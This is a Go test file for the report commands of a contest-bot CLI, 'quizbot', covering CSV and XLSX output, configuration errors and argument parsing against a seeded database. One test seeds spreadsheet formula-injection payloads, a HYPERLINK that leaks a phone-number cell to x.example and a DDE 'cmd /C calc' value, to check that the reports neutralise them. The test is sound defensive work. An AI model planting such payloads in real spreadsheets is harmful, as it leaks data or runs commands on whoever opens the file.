package main

import (
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"quizbot/config"
	"quizbot/report/reporttest"
	"quizbot/storage"
	"quizbot/storage/storagetest"
)

// reportDB seeds the report fixture in a database of the test's own and
// returns the environment to run quizbot against it.
func reportDB(t *testing.T) (*storage.DB, func(string) string) {
	t.Helper()
	db, url := storagetest.NewDBURL(t)
	reporttest.Seed(t, db)
	// Only Postgres, as on an organizer's machine: a report needs no Redis.
	vars := map[string]string{"DATABASE_URL": url}
	return db, func(k string) string { return vars[k] }
}

// TestCommandsRequireOnlyTheSettingsTheyUse runs quizbot where only Postgres
// is configured: the commands that never touch Redis run, and those that do
// refuse to start, naming REDIS_URL, before doing anything.
func TestCommandsRequireOnlyTheSettingsTheyUse(t *testing.T) {
	_, pgOnly := reportDB(t)
	withToken := func(k string) string {
		if k == "TELEGRAM_TOKEN" {
			return "123456:ABCDEFGHIJKLMNOPQRSTUVWXYZ"
		}
		return pgOnly(k)
	}
	const redisRequired = "quizbot: configuration: REDIS_URL: is required (for example redis://127.0.0.1:6379/0)\n"
	missing := filepath.Join(t.TempDir(), "missing")
	for _, tc := range []struct {
		getenv func(string) string
		args   []string
		code   int
		stderr string // the whole of it when it is a configuration error, else a part
	}{
		{pgOnly, []string{"report", "results", "--round", "1"}, 0, "report results: contest cchc-2026 round 1: 9 ranked"},
		{pgOnly, []string{"migrate"}, 0, ""},
		{pgOnly, []string{"notify", "status", "--round", "1"}, 0, ""},
		{pgOnly, []string{"import", "questions", missing + ".csv"}, 1, "missing.csv"},
		{pgOnly, []string{"contest", "apply", missing + ".yaml"}, 1, "missing.yaml: no such file or directory"},
		// Without a token notify only queues (here: the round is over).
		{pgOnly, []string{"notify", "remind", "--round", "1"}, 1, "notify remind: round 1 of cchc-2026 is not open"},
		{withToken, []string{"notify", "remind", "--round", "1", "--enqueue-only"}, 1, "notify remind: round 1 of cchc-2026 is not open"},

		{pgOnly, []string{"serve"}, 2, redisRequired},
		{pgOnly, []string{"member", "unlink", "0912000001"}, 2, redisRequired},
		// A roster or unit change clears the bots' cache of members.
		{pgOnly, []string{"import", "members", missing + ".csv"}, 2, redisRequired},
		{pgOnly, []string{"import", "units", missing + ".xlsx"}, 2, redisRequired},
		{withToken, []string{"notify", "remind", "--round", "1"}, 2,
			"quizbot: configuration: REDIS_URL: is required to send on Telegram or Zalo from here, at the rate every replica shares through Redis (for example redis://127.0.0.1:6379/0); or pass --enqueue-only to leave the sending to serve\n"},
	} {
		code, _, errOut := runQuizbot(tc.getenv, tc.args...)
		ok := code == tc.code && strings.Contains(errOut, tc.stderr)
		if tc.code == 2 {
			ok = code == 2 && errOut == tc.stderr
		} else if strings.Contains(errOut, "configuration") {
			ok = false
		}
		if !ok {
			t.Errorf("%v: exit %d, stderr:\n%s\nwant exit %d and %q", tc.args, code, errOut, tc.code, tc.stderr)
		}
	}
}

func runReport(t *testing.T, getenv func(string) string, args ...string) (int, string, string) {
	t.Helper()
	return runQuizbot(getenv, append([]string{"report"}, args...)...)
}

const (
	wantResultsCSV = `rank,full_name,phone,unit_code,position,correct,total,duration_seconds,prediction,submitted_at
1,Phạm Văn Cường,0912000003,SGD,Phó Giám đốc,3,3,200,9,2026-03-02 08:03:20
2,Trần Thị Bình,0912000002,SNV,Chuyên viên,3,3,90,7,2026-03-03 10:00:00
3,Vũ Thị Dung,0912000004,SGD,Giáo viên,3,3,90,11,2026-03-04 14:01:30
4,Nguyễn Văn An,0912000001,SNV,Giám đốc,3,3,120,11,2026-03-02 20:02:00
5,Hoàng Em,0912000005,SGD,,3,3,30,,2026-03-05 11:00:30
6,Đặng Thu Giang,0912000006,XA,Chủ tịch UBND xã,2,3,60,9,2026-03-02 09:01:00
7,Lê Thu Hà,0912000007,XA,Công chức văn phòng,2,3,600,,2026-03-05 15:10:00
8,Ngô Văn Khánh,0912000009,SNV,Chuyên viên,1,3,100,9,2026-03-03 08:01:40
9,Lý Văn Hùng,0912000008,XA,Công chức địa chính,0,3,45,3,2026-03-06 16:00:45
`
	wantUnitsCSV = `unit_code,unit_name,staff,verified,participated,participation_pct,avg_correct,zero_scores
SGD,Sở Giáo dục và Đào tạo,6,5,3,50.0,3.00,0
SNV,Sở Nội vụ,3,2,2,66.7,3.00,0
XA,UBND xã An Hòa,3,3,3,100.0,1.33,1
XB,UBND xã Bình Minh,0,0,0,,,0
`
	wantAbsentCSV = `unit_code,full_name,phone,position,verified,reason
SGD,Bùi Văn Phúc,0912000013,Bảo vệ,không,đi công tác
SGD,Lê Văn Long,0912000011,Kế toán,có,nghỉ phép
SGD,Phan Thị Nga,0912000012,Giáo viên,có,
SNV,Đỗ Minh,0912000010,Văn thư,không,chưa kích hoạt
`
)

func TestReportCommandCSVOnStdout(t *testing.T) {
	_, getenv := reportDB(t)
	for _, tc := range []struct {
		args       []string
		want       string
		wantStderr string
	}{
		{[]string{"results", "--round", "1"}, wantResultsCSV,
			"report results: contest cchc-2026 round 1: 9 ranked, actual participants 9, csv to stdout\n"},
		// Flags before the name, and the contest named.
		{[]string{"--round=1", "--contest", "cchc-2026", "units"}, wantUnitsCSV,
			"report units: contest cchc-2026 round 1: 4 units, 8 of 12 staff took part, csv to stdout\n"},
		{[]string{"absent", "--round", "1", "--format", "csv"}, wantAbsentCSV,
			"report absent: contest cchc-2026 round 1: 4 absent, csv to stdout\n"},
	} {
		code, out, errOut := runReport(t, getenv, tc.args...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", tc.args, code, errOut)
		}
		if out != tc.want {
			t.Errorf("%v: stdout =\n%s\nwant\n%s", tc.args, out, tc.want)
		}
		if errOut != tc.wantStderr {
			t.Errorf("%v: stderr = %q, want %q", tc.args, errOut, tc.wantStderr)
		}
		if strings.Contains(errOut, "0912") {
			t.Errorf("%v: a phone number on stderr", tc.args)
		}
	}
}

func TestReportCommandFiles(t *testing.T) {
	_, getenv := reportDB(t)
	dir := t.TempDir()

	// A CSV file carries the BOM, so that Excel reads it as UTF-8.
	p := filepath.Join(dir, "absent.csv")
	code, out, errOut := runReport(t, getenv, "absent", "--round", "1", "--out", p)
	if code != 0 || out != "" {
		t.Fatalf("exit %d, stdout %q, stderr %s", code, out, errOut)
	}
	if want := "report absent: contest cchc-2026 round 1: 4 absent, csv to " + p + "\n"; errOut != want {
		t.Errorf("stderr = %q, want %q", errOut, want)
	}
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	if string(b) != "\uFEFF"+wantAbsentCSV {
		t.Errorf("absent.csv =\n%q\nwant BOM +\n%q", b, wantAbsentCSV)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*.tmp")); len(left) != 0 {
		t.Errorf("temporary files left: %v", left)
	}

	// --out FILE.xlsx implies the format.
	p = filepath.Join(dir, "results.xlsx")
	if code, _, errOut := runReport(t, getenv, "results", "--round", "1", "--out", p); code != 0 {
		t.Fatalf("results xlsx: exit %d: %s", code, errOut)
	}
	f, err := excelize.OpenFile(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	assertSheetCSV(t, f, "results", wantResultsCSV)
	if v, _ := f.GetCellValue("results", "H8", excelize.Options{RawCellValue: true}); v != "600" {
		t.Errorf("duration of rank 7 = %q, want the number 600", v)
	}

	// An xlsx on stdout is fine when stdout is not a terminal.
	code, out, errOut = runReport(t, getenv, "units", "--round", "1", "--format", "xlsx")
	if code != 0 {
		t.Fatalf("units xlsx: exit %d: %s", code, errOut)
	}
	g, err := excelize.OpenReader(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	assertSheetCSV(t, g, "units", wantUnitsCSV)
}

// assertSheetCSV compares a sheet with the CSV the same report gives.
func assertSheetCSV(t *testing.T, f *excelize.File, sheet, want string) {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows {
		got = append(got, strings.Join(r, ","))
	}
	// excelize drops a row's trailing empty cells.
	var lines []string
	for _, l := range strings.Split(strings.TrimSuffix(want, "\n"), "\n") {
		lines = append(lines, strings.TrimRight(l, ","))
	}
	if strings.Join(got, "\n") != strings.Join(lines, "\n") {
		t.Errorf("sheet %s =\n%s\nwant\n%s", sheet, strings.Join(got, "\n"), strings.Join(lines, "\n"))
	}
}

func TestReportCommandRefusesXLSXOnATerminal(t *testing.T) {
	_, getenv := reportDB(t)
	// /dev/null is a character device like a terminal.
	null, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err != nil {
		t.Skip(err)
	}
	defer null.Close()
	var stderr bytes.Buffer
	code := run(context.Background(), []string{"report", "results", "--round", "1", "--format", "xlsx"}, getenv, null, &stderr)
	if code != 2 || !strings.Contains(stderr.String(), "give --out FILE.xlsx") {
		t.Errorf("exit %d, stderr %s", code, stderr.String())
	}
}

func TestReportCommandErrors(t *testing.T) {
	db, getenv := reportDB(t)
	for _, tc := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"results", "--round", "7"}, 1, "quizbot: report results: contest cchc-2026 has no round 7; its rounds are 1, 2\n"},
		{[]string{"results"}, 2, "report results needs --round N"},
		{[]string{"results", "--round", "x"}, 2, `invalid value "x" for flag -round`},
		{[]string{"--round", "1"}, 2, "report takes one report name"},
		{[]string{"results", "units", "--round", "1"}, 2, "report takes one report name"},
		{[]string{"scores", "--round", "1"}, 2, `report "scores": the reports are results, units and absent`},
		{[]string{"results", "--round", "1", "--format", "pdf"}, 2, `report --format "pdf": use csv or xlsx`},
		{[]string{"results", "--round", "1", "--contest", "cchc-2025"}, 1, `report results: no contest "cchc-2025"; the contests are cchc-2026`},
		{[]string{"results", "--round", "1", "--out", filepath.Join(t.TempDir(), "missing", "r.csv")}, 1, "report results: create "},
	} {
		code, out, errOut := runReport(t, getenv, tc.args...)
		if code != tc.code || !strings.Contains(errOut, tc.want) || out != "" {
			t.Errorf("%v: exit %d (want %d), stdout %q, stderr:\n%s\nwant it to contain %q", tc.args, code, tc.code, out, errOut, tc.want)
		}
	}

	// A second contest: the report must be told which.
	if _, err := db.Exec(`INSERT INTO contests (id, code, name, questions_per_attempt, time_limit_seconds)
		VALUES (2, 'cchc-2027', 'Cuộc thi 2027', 10, 600)`); err != nil {
		t.Fatal(err)
	}
	code, _, errOut := runReport(t, getenv, "results", "--round", "1")
	if want := "there are 2 contests, cchc-2026, cchc-2027 (the current one is cchc-2026): choose one with --contest CODE"; code != 2 || !strings.Contains(errOut, want) {
		t.Errorf("two contests: exit %d, stderr:\n%s\nwant %q", code, errOut, want)
	}
	code, out, errOut := runReport(t, getenv, "results", "--round", "1", "--contest", "cchc-2026")
	if code != 0 || out != wantResultsCSV {
		t.Errorf("two contests, one named: exit %d, stderr %s", code, errOut)
	}
	code, _, errOut = runReport(t, getenv, "units", "--round", "1", "--contest", "cchc-2027")
	if want := "contest cchc-2027 has no round 1; it has no rounds"; code != 1 || !strings.Contains(errOut, want) {
		t.Errorf("contest without rounds: exit %d, stderr %s", code, errOut)
	}
}

// The commands open PostgreSQL with the pool size of the configuration.
func TestOpenDBBoundsTheConnections(t *testing.T) {
	url := storagetest.DatabaseURL(t)
	for _, n := range []int{3, config.DefaultDatabaseMaxConns()} {
		e := &env{cfg: config.Config{DatabaseURL: url, DatabaseMaxConns: n}, stdout: io.Discard, stderr: io.Discard}
		db, err := openDB(context.Background(), e)
		if err != nil {
			t.Fatal(err)
		}
		if got := db.Stats().MaxOpenConnections; got != n {
			t.Errorf("DATABASE_MAX_CONNS %d: pool of %d", n, got)
		}
		db.Close()
	}
}

// TestReportUnitsNotesWebPreviews: members who only tried the local web
// chat stay out of the verified column, and the summary says so, so that a
// demo's "0 verified" beside its participants does not read as a fault.
func TestReportUnitsNotesWebPreviews(t *testing.T) {
	db, getenv := reportDB(t)
	// Đỗ Minh (10) and Bùi Văn Phúc (13) never verified; both tried the web
	// chat. Nguyễn Văn An (1) verified on Telegram and tried it too.
	if _, err := db.ExecContext(context.Background(), `INSERT INTO identities (member_id, platform, external_id, chat_id)
		VALUES (10, 'web', 'web-10', 'web-10'), (13, 'web', 'web-13', 'web-13'), (1, 'web', 'web-1', 'web-1')`); err != nil {
		t.Fatal(err)
	}
	code, out, errOut := runReport(t, getenv, "units", "--round", "1")
	if code != 0 || out != wantUnitsCSV {
		t.Fatalf("exit %d, stdout =\n%s\nwant the same figures as without the web chat:\n%s\nstderr: %s", code, out, wantUnitsCSV, errOut)
	}
	want := "report units: contest cchc-2026 round 1: 4 units, 8 of 12 staff took part; verified leaves out 2 who only tried the local web chat (không tính 2 người chỉ dùng thử trên trang web cục bộ), csv to stdout\n"
	if errOut != want {
		t.Errorf("stderr = %q, want %q", errOut, want)
	}
}

// Names, positions and reasons come from people: in a report they are text,
// never a formula that runs when the file is opened in Excel or LibreOffice.
func TestReportCommandNeutralisesFormulas(t *testing.T) {
	db, getenv := reportDB(t)
	if _, err := db.Exec(`UPDATE members SET full_name = '=HYPERLINK("http://x.example/?"&C2,"Xem")' WHERE id = 10;
		UPDATE members SET position = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE id = 11;
		UPDATE members SET position = E'\t=1+1' WHERE id = 12;
		UPDATE excuses SET reason = '-2+3' WHERE member_id = 13 AND round_id = 1;
		UPDATE excuses SET reason = '+đi học' WHERE member_id = 11 AND round_id = 1`); err != nil {
		t.Fatal(err)
	}
	code, out, errOut := runReport(t, getenv, "absent", "--round", "1")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	want := `unit_code,full_name,phone,position,verified,reason
SGD,Bùi Văn Phúc,0912000013,Bảo vệ,không,'-2+3
SGD,Lê Văn Long,0912000011,'@SUM(1+1)*cmd|' /C calc'!A0,có,'+đi học
SGD,Phan Thị Nga,0912000012,'` + "\t" + `=1+1,có,
SNV,"'=HYPERLINK(""http://x.example/?""&C2,""Xem"")",0912000010,Văn thư,không,chưa kích hoạt
`
	if out != want {
		t.Errorf("absent csv =\n%s\nwant\n%s", out, want)
	}

	// The heads' cards attach the same tables as a workbook: text cells.
	p := filepath.Join(t.TempDir(), "absent.xlsx")
	if code, _, errOut := runReport(t, getenv, "absent", "--round", "1", "--out", p); code != 0 {
		t.Fatalf("xlsx: exit %d: %s", code, errOut)
	}
	f, err := excelize.OpenFile(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]string{
		"F2": "-2+3", "D3": "@SUM(1+1)*cmd|' /C calc'!A0", "F3": "+đi học", "D4": "\t=1+1",
		"B5": `=HYPERLINK("http://x.example/?"&C2,"Xem")`,
	} {
		typ, _ := f.GetCellType("absent", cell)
		formula, _ := f.GetCellFormula("absent", cell)
		v, _ := f.GetCellValue("absent", cell)
		if typ != excelize.CellTypeInlineString || formula != "" || v != want {
			t.Errorf("absent!%s: type %v, formula %q, value %q; want the text %q", cell, typ, formula, v, want)
		}
	}
}

// The report is the first word that is no flag's value: a file named like
// another report does not send the command there.
func TestReportName(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"results", "--round", "1", "--out", "prizes"}, "results"},
		{[]string{"--out", "workbook", "absent", "--round", "1"}, "absent"},
		{[]string{"--format", "csv", "--headings", "vi", "zeros", "--round", "2"}, "zeros"},
		{[]string{"--contest", "cchc-2026", "prizes", "--contest"}, "prizes"},
		{[]string{"--round=1", "questions", "--out=signals"}, "questions"},
		{[]string{"--contest", "entries"}, "entries"},
		{[]string{"--round", "1"}, ""},
	} {
		if got := reportName(tc.args); got != tc.want {
			t.Errorf("reportName(%q) = %q, want %q", tc.args, got, tc.want)
		}
	}
}
